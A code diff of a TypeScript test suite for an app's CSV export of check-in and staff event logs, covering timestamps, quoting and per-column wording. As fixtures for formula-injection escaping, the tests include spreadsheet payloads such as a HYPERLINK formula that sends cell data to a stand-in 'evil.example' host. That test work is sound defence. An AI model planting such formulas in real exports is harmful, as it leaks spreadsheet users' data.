@@ -3,17 +3,28 @@ import Database from 'better-sqlite3';
 import { migrate } from '../../src/main/core/store/db';
 import { ANALYTICS_MIGRATIONS } from '../../src/main/core/store/analytics-schema';
 import { csvChunks } from '../../src/main/core/store/csv-lines';
+import { CSV_HEADER } from '../../src/main/core/store/csv-words';
 import { CATEGORIES } from '../../src/shared/analytics';
+import { CATEGORY_WORDS, checkinDetail, eventWords, readCheckinDetail } from '../../src/shared/words';
 
-// The lines must read exactly as the per-row strftime query wrote them before (kept here as the reference).
-// A cell a spreadsheet would run as a formula starts with an apostrophe, inside quotes.
-const quoted = (col: string): string =>
-  `CASE WHEN substr(${col}, 1, 1) IN ('=', '+', '-', '@', char(9), char(13)) THEN '"''' || replace(${col}, '"', '""') || '"'
-   WHEN instr(${col}, '"') OR instr(${col}, ',') OR instr(${col}, char(10)) OR instr(${col}, char(13)) THEN '"' || replace(${col}, '"', '""') || '"' ELSE ${col} END`;
+// The time columns must read exactly as the per-row strftime query wrote them before (kept here as the
+// reference); the rest as the screens word each event. A cell a spreadsheet would run as a formula
+// starts with an apostrophe, inside quotes.
+const field = (v: string): string => (/^[=+\-@\t\r]/.test(v) ? `"'${v.replace(/"/g, '""')}"` : /[",\n\r]/.test(v) ? `"${v.replace(/"/g, '""')}"` : v);
 const reference = (offsetMin: number): string =>
-  `SELECT strftime('%Y-%m-%dT%H:%M:%fZ', ts / 1000.0, 'unixepoch') || ',' || strftime('%Y-%m-%d %H:%M:%S', ts / 1000.0, 'unixepoch', '${offsetMin} minutes') || ',' ||
-   CASE category ${CATEGORIES.map((c, i) => `WHEN ${i} THEN '${c}'`).join(' ')} END || ',' || ${quoted('type')} || ',' || ${quoted('source')} || ',' || ${quoted('detail')} || char(13, 10)
+  `SELECT strftime('%Y-%m-%dT%H:%M:%fZ', ts / 1000.0, 'unixepoch') AS utc, strftime('%Y-%m-%d %H:%M:%S', ts / 1000.0, 'unixepoch', '${offsetMin} minutes') AS local, category, type, source, detail
    FROM events WHERE ts >= ? AND ts < ? ORDER BY ts, id`;
+type Row = { utc: string; local: string; category: number; type: string; source: string; detail: string };
+/** A line as a manager reads it: a check-in's verdict in words, its member or card and note apart. */
+function line(r: Row): string {
+  const category = CATEGORIES[r.category]!;
+  const { what, detail } = eventWords({ category, type: r.type, detail: r.detail });
+  const checkin = category === 'checkin' && what !== r.type && detail !== r.detail;
+  const c = readCheckinDetail(r.detail);
+  const isCard = c.reason === 'unknown-card' || /^\d+$/.test(c.who);
+  const cols = checkin ? [what, r.source, isCard ? '' : c.who, isCard ? c.who : '', c.note, ''] : [what, r.source, '', '', '', r.detail];
+  return `${r.utc},${r.local},${CATEGORY_WORDS[category]},${cols.map(field).join(',')}\r\n`;
+}
 
 describe('CSV lines of the event log', () => {
   it('read exactly as strftime wrote them: any offset, ms and minute edges, before 1970, quoting, bursts, in time order', () => {
@@ -25,13 +36,13 @@ describe('CSV lines of the event log', () => {
     const stamps = [1, base, base + 1, base + 2, base + 61_001, Date.UTC(2024, 1, 29, 12), -1, -59_999, -60_000, -86_400_001];
     for (let i = 0; i < 3_000; i++) stamps.push(Math.floor(random() * 4_102_444_800_000)); // 1970–2100
     for (let i = 0; i < 3_000; i++) stamps.push(base - 5_000 + Math.floor(random() * 10_000)); // a burst
-    const details = ['plain', 'has, comma', 'has "quotes"', 'line\nbreak', 'cr\rhere', 'naïve ✓', '', '=HYPERLINK("http://x/?"&A1,"Click")', '+1', '-2', '@SUM(A1)', '\tx', '\rx', 'a=b'];
+    const details = ['plain', 'has, comma', 'has "quotes"', 'line\nbreak', 'cr\rhere', 'naïve ✓', '', '=HYPERLINK("http://x/?"&A1,"Click")', '+1', '-2', '@SUM(A1)', '\tx', '\rx', 'a=b', 'duplicate Rosa Zhang', 'unknown-card 9999999999', checkinDetail('override', 'Kemi Xu', 'forgot card, "ID" checked')];
     const put = db.prepare('INSERT INTO events (ts, category, type, source, detail) VALUES (?, ?, ?, ?, ?)');
     stamps.forEach((ts, i) => put.run(ts, i % CATEGORIES.length, i % 5 ? 'allowed' : 'den,ied', i % 7 ? 'door' : 'de"sk', details[i % details.length]));
     const from = -86_400_001;
     const to = 4_102_444_800_000;
     for (const offsetMin of [0, 60, -300, 330, 345, -570, 840]) {
-      const want = (db.prepare(reference(offsetMin)).pluck().all(from, to) as string[]).join('');
+      const want = (db.prepare(reference(offsetMin)).all(from, to) as Row[]).map(line).join('');
       let got = '';
       let rows = 0;
       for (const part of csvChunks(db, '1', [], [{ from, to, offsetMin }], stamps.length, 200)) {
@@ -54,8 +65,31 @@ describe('CSV lines of the event log', () => {
     migrate(db, ANALYTICS_MIGRATIONS);
     db.prepare('INSERT INTO events (ts, category, type, source, detail) VALUES (?, 0, ?, ?, ?)').run(60_000, 'connected', '@evil', '=HYPERLINK("http://evil.example/?x="&A1,"Click")');
     const [part] = [...csvChunks(db, '1', [], [{ from: 0, to: 120_000, offsetMin: 0 }], 1)];
-    expect(part!.text).toBe(`1970-01-01T00:01:00.000Z,1970-01-01 00:01:00,${CATEGORIES[0]},connected,"'@evil","'=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")"\r\n`);
+    expect(part!.text).toBe(`1970-01-01T00:01:00.000Z,1970-01-01 00:01:00,Connection,Connected,"'@evil",,,,"'=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")"\r\n`);
     expect(() => [...csvChunks(db, '1', [], [{ from: 0, to: 120_000, offsetMin: NaN }], 1)]).toThrow(/bad UTC offset/);
+    db.close();
+  });
+
+  it("words a check-in as the screen does, with the member, card and an override's note in their own columns", () => {
+    const db = new Database(':memory:');
+    migrate(db, ANALYTICS_MIGRATIONS);
+    const put = db.prepare('INSERT INTO events (ts, category, type, source, detail) VALUES (?, ?, ?, ?, ?)');
+    const checkin = CATEGORIES.indexOf('checkin');
+    put.run(60_000, checkin, 'denied', 'door', 'duplicate Rosa Zhang');
+    put.run(60_001, checkin, 'denied', 'kiosk', 'unknown-card 9999999999');
+    put.run(60_002, checkin, 'allowed', 'door', 'expiring-soon Kemi Xu');
+    put.run(60_003, checkin, 'allowed', 'desk', checkinDetail('override', 'Finn Berg', 'paid at the desk, receipt 12'));
+    put.run(60_004, CATEGORIES.indexOf('user'), 'export', 'manager', '120 events to march.csv');
+    const [part] = [...csvChunks(db, '1', [], [{ from: 0, to: 120_000, offsetMin: 0 }], 5)];
+    expect(CSV_HEADER).toBe('time_utc,local_time,category,event,source,member,card,note,detail');
+    expect(part!.text.split('\r\n').map((l) => l.slice(45))).toEqual([
+      'Check-in,Denied: already checked in,door,Rosa Zhang,,,',
+      'Check-in,Denied: card not recognised,kiosk,,9999999999,,',
+      'Check-in,Allowed: membership expires soon,door,Kemi Xu,,,',
+      'Check-in,Allowed by staff override,desk,Finn Berg,,"paid at the desk, receipt 12",',
+      'Staff action,Exported data,manager,,,,120 events to march.csv',
+      '',
+    ]);
     db.close();
   });
 });
